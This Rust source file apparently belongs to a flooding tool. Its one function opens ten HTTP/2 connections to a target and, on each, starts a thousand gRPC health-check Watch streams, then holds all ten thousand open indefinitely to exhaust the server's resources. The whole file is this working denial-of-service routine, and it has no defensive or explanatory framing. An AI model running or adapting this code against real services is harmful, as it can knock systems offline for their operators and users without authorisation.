//! Load balancers without number.

use bytes::Bytes;

use crate::floods::connect;
use crate::target::Target;

/// So many watch, on so many connections each.
const CONNECTIONS: usize = 10;
const WATCHERS: usize = 1_000;

/// An empty message: how the whole peer is.
const WHOLE_PEER: &[u8] = &[0; 5];

/// 10,000 streams that are told when the peer does not serve any more.
pub async fn health_watchers(target: &Target) {
    let mut held = Vec::new();
    for _ in 0..CONNECTIONS {
        let Ok((mut requests, connection)) = h2::client::handshake(connect(&target.service).await).await else { continue };
        tokio::spawn(connection);
        for _ in 0..WATCHERS {
            requests = match requests.ready().await {
                Ok(requests) => requests,
                Err(_) => break,
            };
            let request = http::Request::post("http://peer/grpc.health.v1.Health/Watch")
                .header("content-type", "application/grpc")
                .header("te", "trailers")
                .body(())
                .expect("a request");
            let Ok((response, mut sending)) = requests.send_request(request, false) else { break };
            let _ = sending.send_data(Bytes::from_static(WHOLE_PEER), true);
            held.push((response, sending));
        }
    }
    std::future::pending::<()>().await;
}
